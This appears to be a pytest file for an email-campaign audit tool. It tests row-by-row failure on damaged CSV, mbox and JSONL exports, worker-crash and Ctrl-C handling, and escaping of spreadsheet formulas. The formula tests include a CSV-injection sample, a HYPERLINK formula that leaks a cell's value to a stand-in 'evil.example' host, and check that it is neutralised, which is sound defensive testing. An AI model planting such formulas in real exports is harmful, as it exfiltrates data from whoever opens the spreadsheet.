@@ -1,0 +1,383 @@
+"""Campaign audits that lose nothing: every row of a damaged export is read or failed with its
+reason, a killed worker or Ctrl-C never hangs or garbles a run, and CSV output cannot run
+formulas in a spreadsheet. Real files (tests/fixtures/reliability), real worker processes,
+real signals."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import gzip
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from concurrent.futures import Future
+from concurrent.futures.process import BrokenProcessPool
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from honestreach.campaign import WorkerSettings, audit, iter_rows
+from honestreach.campaign.audit import WorkerPool
+from honestreach.campaign.csvrecords import read_records
+from honestreach.campaign.output import spreadsheet_safe
+from honestreach.campaign.sources import ReadProgress, Row
+from honestreach.campaign.summary import Summary, format_text
+from honestreach.cli import main
+
+FIXTURES = Path(__file__).parent / "fixtures" / "reliability"
+HEADER = "id,to,from,subject,body,sent_at\r\n"
+
+
+def _audit(source: Path, jobs: int = 1):  # type: ignore[no-untyped-def]
+    records: list[dict] = []
+    result = audit(WorkerSettings(str(source)), jobs=jobs, on_record=records.append)
+    return result.summary, records
+
+
+def _row(n: int, body: str = "Hi,\n\nThe notes from Tuesday.\n\nKim") -> str:
+    body = body.replace('"', '""')
+    return f's{n},r{n}@example.com,kim@example.com,Notes,"{body}",2026-11-02T09:00:00Z\r\n'
+
+
+# -- CSV exports ---------------------------------------------------------------------------------
+def test_a_windows_1252_export_is_read_with_a_note() -> None:
+    summary, records = _audit(FIXTURES / "audit-csv-cp1252-100-rows.csv")
+    assert summary["rows"] == {"read": 100, "checked": 100, "failed": 0}
+    assert summary["source"] == {"rows": 100, "notes": {
+        "rows read as Windows-1252 (not UTF-8)": 1}}
+    assert any(r["subject"] == "Café meeting" for r in records)
+    assert "note, rows read as Windows-1252 (not UTF-8): 1" in format_text(summary)
+
+
+def test_one_binary_row_fails_alone_with_its_line() -> None:
+    summary, records = _audit(FIXTURES / "audit-csv-one-binary-row.csv")
+    assert summary["rows"] == {"read": 300, "checked": 299, "failed": 1}
+    assert summary["failed_by_reason"] == {"wrong number of fields": 1}
+    (failed,) = [r for r in records if not r["checked"]]
+    assert failed["errors"][0].startswith("row 50 (line 296): 1 fields, the header has 7")
+    assert [r["row"] for r in records] == list(range(1, 301))
+
+
+def test_a_body_over_the_csv_modules_field_limit_is_one_row() -> None:
+    source = FIXTURES / "audit-csv-one-200KB-multiline-body.csv"
+    rows = list(iter_rows(str(source)))
+    assert len(rows) == 60 and all(row.error is None for row in rows)
+    assert max(len(row.fields["body"] or "") for row in rows) > 200_000
+    assert [row.id for row in rows] == [f"s{n:04d}" for n in range(1, 61)]
+
+
+def test_records_are_framed_by_the_csv_quoting_rules(tmp_path: Path) -> None:
+    # Quoted line breaks, doubled quotes, a quote inside an unquoted field, blank lines, CRLF,
+    # LF and lone CR endings: each record is one row, as the csv module would read it whole.
+    data = (HEADER + _row(1, 'Hi,\n\nShe said "yes".\r\n\r\nKim') + "\r\n"
+            + 's2,r2@example.com,kim@example.com,A 5" screen,Hello there,\n'
+            + "\n" + _row(3) + "s4,r4@example.com,,Notes,Plain body,\r" + _row(5))
+    target = tmp_path / "campaign.csv"
+    target.write_text(data, encoding="utf-8", newline="")
+    expected = list(csv.reader(data.replace("\r\n\r\n", "\r\n").splitlines(keepends=True)))
+    rows = list(iter_rows(str(target)))
+    assert [row.id for row in rows] == ["s1", "s2", "s3", "s4", "s5"]
+    assert rows[0].fields["body"] == 'Hi,\n\nShe said "yes".\r\n\r\nKim'
+    assert rows[1].fields["subject"] == 'A 5" screen'
+    assert rows[3].fields["body"] == "Plain body"
+    assert [row.fields["to"] for row in rows] == [cells[1] for cells in expected[1:] if cells]
+
+
+@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 64])
+def test_framing_does_not_depend_on_where_reads_stop(tmp_path: Path, chunk: int) -> None:
+    import io
+
+    data = (HEADER + _row(1, 'a "quoted" word,\r\nand "more"') + _row(2)).encode()
+
+    class Trickle(io.RawIOBase):
+        """A stream that gives at most ``chunk`` bytes a read."""
+
+        def __init__(self) -> None:
+            self.data = memoryview(data)
+
+        def readable(self) -> bool:
+            return True
+
+        def read(self, size: int = -1) -> bytes:
+            piece, self.data = self.data[:chunk], self.data[chunk:]
+            return bytes(piece)
+
+    records = list(read_records(Trickle()))  # type: ignore[arg-type]
+    assert [r.line for r in records] == [1, 2, 4]
+    assert records[1].cells[4] == 'a "quoted" word,\r\nand "more"'  # type: ignore[index]
+
+
+def test_a_record_too_long_or_a_quote_never_closed_fails_alone(tmp_path: Path) -> None:
+    import io
+
+    long_body = "x" * 5000
+    data = (HEADER + _row(1) + _row(2, long_body) + _row(3)).encode()
+    records = list(read_records(io.BytesIO(data), limit=2000))
+    assert [r.error is None for r in records] == [True, True, False, True]
+    assert records[2].reason == "record too long"
+    assert records[3].cells[0] == "s3"  # type: ignore[index]
+    unclosed = (HEADER + _row(1) + 's2,r2@example.com,kim@example.com,Notes,"never closed\n'
+                + "s3,r3@example.com,,Notes,Plain,\r\n").encode()
+    records = list(read_records(io.BytesIO(unclosed)))
+    assert [r.reason for r in records] == [None, None, "unclosed quote"]
+    assert records[2].line == 7
+
+
+def test_nul_bytes_and_undecodable_bytes_are_not_text(tmp_path: Path) -> None:
+    target = tmp_path / "campaign.csv"
+    target.write_bytes((HEADER + _row(1)).encode() + b"s2,r2@example.com,,x,bin\x00ary,\r\n"
+                       + b"s3,r3@example.com,,x,\x81\x8d,\r\n" + _row(4).encode())
+    rows = list(iter_rows(str(target)))
+    assert [row.reason for row in rows] == [None, "not text", "not text", None]
+    assert rows[1].error.startswith("row 2 (line 7): not text")  # type: ignore[union-attr]
+
+
+def test_utf16_and_gzip_exports(tmp_path: Path) -> None:
+    text = HEADER + _row(1, "Hi Zoë,\n\nThe notes.") + _row(2)
+    utf16 = tmp_path / "campaign.csv"
+    utf16.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
+    rows = list(iter_rows(str(utf16)))
+    assert [row.id for row in rows] == ["s1", "s2"]
+    assert "Zoë" in rows[0].fields["body"]  # type: ignore[operator]
+    packed = tmp_path / "campaign.csv.gz"
+    packed.write_bytes(gzip.compress(text.encode("cp1252")))
+    progress = ReadProgress()
+    rows = list(iter_rows(str(packed), progress=progress))
+    assert "Zoë" in rows[0].fields["body"] and progress.rows == 2  # type: ignore[operator]
+    assert progress.notes == {"rows read as Windows-1252 (not UTF-8)": 1}
+
+
+def test_an_unreadable_header_is_an_error_not_an_empty_campaign(tmp_path: Path) -> None:
+    target = tmp_path / "campaign.csv"
+    target.write_bytes(b"\x00\x01\x02\x03 binary,\xff\r\n" + _row(1).encode())
+    result = CliRunner().invoke(main, ["audit", str(target), "--jobs", "1"])
+    assert result.exit_code == 2 and "header row (line 1) cannot be read" in result.output
+
+
+# -- mbox and JSONL ------------------------------------------------------------------------------
+def test_one_message_that_breaks_the_reader_is_one_failed_row(monkeypatch) -> None:
+    from honestreach import mime
+
+    parse_eml = mime.parse_eml
+
+    def fragile(path: str, data: bytes):  # type: ignore[no-untyped-def]
+        if b"charset=undefined" in data:
+            raise LookupError("unknown encoding: undefined")
+        return parse_eml(path, data)
+
+    monkeypatch.setattr(mime, "parse_eml", fragile)
+    summary, records = _audit(FIXTURES / "audit-mbox-one-bad-charset.mbox")
+    assert summary["rows"] == {"read": 200, "checked": 199, "failed": 1}
+    assert summary["failed_by_reason"] == {"could not be read": 1}
+    (failed,) = [r for r in records if not r["checked"]]
+    assert failed["row"] == 100 and "unknown encoding" in failed["errors"][0]
+
+
+def test_the_bad_charset_mbox_in_worker_processes(tmp_path: Path) -> None:
+    out = tmp_path / "o.jsonl"
+    completed = subprocess.run(
+        [sys.executable, "-m", "honestreach", "audit", str(FIXTURES /
+                                                          "audit-mbox-one-bad-charset.mbox"),
+         "--jobs", "2", "--output", str(out), "--format", "json"],
+        capture_output=True, text=True, timeout=300)
+    assert "Traceback" not in completed.stderr
+    summary = json.loads(completed.stdout)
+    assert summary["rows"]["read"] == summary["source"]["rows"] == 200
+    assert [json.loads(line)["row"] for line in out.read_text().splitlines()] == \
+        list(range(1, 201))
+
+
+def test_jsonl_lines_too_long_too_deep_or_too_large_a_number(tmp_path: Path, monkeypatch) -> None:
+    from honestreach.campaign import sources
+
+    monkeypatch.setattr(sources, "MAX_MESSAGE_BYTES", 25_000)
+    good = json.dumps({"id": "ok", "to": "a@example.com", "body": "Hello."})
+    target = tmp_path / "campaign.jsonl"
+    target.write_text("\n".join([good, json.dumps({"body": "x" * 30_000}),
+                                 "[" * 10_000 + "]" * 10_000, '{"id": ' + "9" * 5000 + "}",
+                                 good]) + "\n")
+    rows = list(iter_rows(str(target)))
+    assert [row.reason for row in rows] == [None, "line too long", "invalid JSON",
+                                            "invalid JSON", None]
+    assert [row.index for row in rows] == [1, 2, 3, 4, 5]
+
+
+def test_an_eml_folder_with_a_fifo(tmp_path: Path) -> None:
+    (tmp_path / "a.eml").write_bytes(b"To: a@example.com\nSubject: Hi\n\nHello.\n")
+    os.mkfifo(tmp_path / "b.eml")
+    rows = list(iter_rows(str(tmp_path)))
+    assert [row.id for row in rows] == ["a.eml", "b.eml"]
+    assert rows[1].reason == "unreadable file"
+    assert "not a regular file" in rows[1].error  # type: ignore[operator]
+
+
+# -- accounting ----------------------------------------------------------------------------------
+def test_rows_that_do_not_come_back_are_an_error() -> None:
+    summary = Summary()
+    for n in (1, 2):
+        summary.add({"row": n, "id": str(n), "checked": False, "errors": ["x"],
+                     "_reason": "empty body"})
+    document = summary.as_dict([], {}, ReadProgress(rows=3))
+    assert document["rows"] == {"read": 2, "checked": 0, "failed": 2}
+    assert document["failed_by_reason"] == {"empty body": 2}
+    assert "the source gave 3 rows but 2 came back" in document["errors"][0]
+    assert "error: the source gave 3 rows" in format_text(document)
+    assert summary.as_dict([], {}, ReadProgress(rows=2))["errors"] == []
+
+
+# -- worker processes ----------------------------------------------------------------------------
+def test_a_chunk_whose_worker_dies_twice_fails_and_the_rest_is_checked(monkeypatch) -> None:
+    """The pool's bookkeeping, with futures standing in for workers: the chunk holding row 5
+    kills its worker every time; the chunks in flight with it are run again."""
+    submitted: list[list[int]] = []
+
+    def submit(self, chunk):  # type: ignore[no-untyped-def]
+        submitted.append([row.index for row in chunk])
+        future: Future = Future()
+        if any(row.index == 5 for row in chunk):
+            future.set_exception(BrokenProcessPool("a worker died"))
+        else:
+            future.set_result([{"row": row.index, "checked": True} for row in chunk])
+        return future
+
+    monkeypatch.setattr(WorkerPool, "_submit", submit)
+    pool = WorkerPool(WorkerSettings("campaign.jsonl"), jobs=2)
+    chunks = [[Row(n, str(n)) for n in range(start, start + 2)] for start in range(1, 13, 2)]
+    records = list(pool.records(chunks))
+    assert [r["row"] for r in records] == list(range(1, 13))
+    failed = [r for r in records if not r["checked"]]
+    assert [r["row"] for r in failed] == [5, 6]
+    assert all(r["_reason"] == "worker stopped" and "stopped twice" in r["errors"][0]
+               for r in failed)
+    assert submitted.count([5, 6]) == 2  # once, then once more alone
+
+
+def _campaign(tmp_path: Path, rows: int) -> Path:
+    target = tmp_path / "campaign.jsonl"
+    with target.open("w", encoding="utf-8") as handle:
+        for n in range(1, rows + 1):
+            handle.write(json.dumps({
+                "id": f"m{n}", "to": f"p{n}@example.com", "subject": "Notes",
+                "body": f"Hi P{n},\n\nThe notes from Tuesday's call are attached.\n\nKim\n"
+                        "Unsubscribe: https://example.com/u"}) + "\n")
+    return target
+
+
+def _wait_for_lines(path: Path, count: int, process: subprocess.Popen, seconds: float) -> None:
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline and process.poll() is None:
+        if path.exists() and path.read_bytes().count(b"\n") >= count:
+            return
+        time.sleep(0.05)
+    pytest.fail(f"the audit wrote fewer than {count} rows in {seconds} s")
+
+
+def _processes() -> list[tuple[int, str, int, int, bytes]]:
+    """Every process: (pid, state, parent, process group, command line)."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            stat = Path(f"/proc/{entry}/stat").read_text()
+            command = Path(f"/proc/{entry}/cmdline").read_bytes()
+        except OSError:
+            continue
+        state, parent, group = stat.rsplit(")", 1)[1].split()[:3]
+        found.append((int(entry), state, int(parent), int(group), command))
+    return found
+
+
+def _workers(pid: int) -> list[int]:
+    """The audit's worker processes (not multiprocessing's resource tracker)."""
+    return [p for p, _, parent, _, command in _processes()
+            if parent == pid and b"spawn_main" in command]
+
+
+def _alive_in_group(group: int, seconds: float) -> list[int]:
+    """The processes of a group still running (not zombies) after up to ``seconds``."""
+    deadline = time.monotonic() + seconds
+    while True:
+        alive = [p for p, state, _, g, _ in _processes() if g == group and state != "Z"]
+        if not alive or time.monotonic() > deadline:
+            return alive
+        time.sleep(0.1)
+
+
+@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc to find the workers")
+def test_kill_9_of_a_worker_does_not_hang_the_audit(tmp_path: Path) -> None:
+    source, out = _campaign(tmp_path, 600), tmp_path / "out.jsonl"
+    process = subprocess.Popen(
+        [sys.executable, "-m", "honestreach", "audit", str(source), "--jobs", "2",
+         "--output", str(out), "--format", "json"],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+    try:
+        _wait_for_lines(out, 64, process, 120)
+        workers = _workers(process.pid)
+        assert workers, "no worker process to kill"
+        os.kill(workers[0], signal.SIGKILL)
+        stdout, stderr = process.communicate(timeout=180)
+    finally:
+        if process.poll() is None:
+            os.killpg(process.pid, signal.SIGKILL)
+    assert "Traceback" not in stderr
+    summary = json.loads(stdout)
+    # The chunks the killed worker held were checked again: nothing is lost or failed.
+    assert summary["rows"] == {"read": 600, "checked": 600, "failed": 0}
+    assert summary["errors"] == [] and process.returncode == 0
+    assert [json.loads(line)["row"] for line in out.read_text().splitlines()] == \
+        list(range(1, 601))
+
+
+@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs process groups and /proc")
+@pytest.mark.parametrize("jobs", ["1", "2"])
+def test_ctrl_c_stops_the_audit_with_one_line_and_exit_130(tmp_path: Path, jobs: str) -> None:
+    source, out = _campaign(tmp_path, 3000), tmp_path / "out.jsonl"
+    process = subprocess.Popen(
+        [sys.executable, "-m", "honestreach", "audit", str(source), "--jobs", jobs,
+         "--output", str(out)],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+    try:
+        _wait_for_lines(out, 40, process, 120)
+        os.killpg(process.pid, signal.SIGINT)  # as a terminal's Ctrl-C: the whole group
+        stdout, stderr = process.communicate(timeout=60)
+    finally:
+        if process.poll() is None:
+            os.killpg(process.pid, signal.SIGKILL)
+    assert process.returncode == 130, stderr
+    lines = stderr.strip().splitlines()
+    assert len(lines) == 1 and "audit interrupted after" in lines[0], stderr
+    assert stdout == ""
+    written = [json.loads(line) for line in out.read_text().splitlines()]  # each line whole
+    assert [r["row"] for r in written] == list(range(1, len(written) + 1))
+    assert f"after {len(written)} rows" in lines[0]
+    assert _alive_in_group(process.pid, 5) == []  # no worker is left behind
+
+
+# -- CSV output ----------------------------------------------------------------------------------
+def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
+    out = tmp_path / "r.csv"
+    result = CliRunner().invoke(main, ["audit", str(FIXTURES / "audit-formula-injection.csv"),
+                                       "--jobs", "1", "--output", str(out)])
+    assert result.exit_code == 2, result.output  # two rows cannot be checked
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert rows[1][0] == "'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")"
+    assert [row[0] for row in rows[2:]] == ["'+SUM(1+1)", "'-2+3"]
+    assert rows[2][2] == "'@SUM(1)"
+
+
+@pytest.mark.parametrize(("value", "safe"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"), ("a=1", "a=1"),
+    ("", ""), (42, 42), ("dana@example.com", "dana@example.com"),
+])
+def test_spreadsheet_safe(value: object, safe: object) -> None:
+    assert spreadsheet_safe(value) == safe
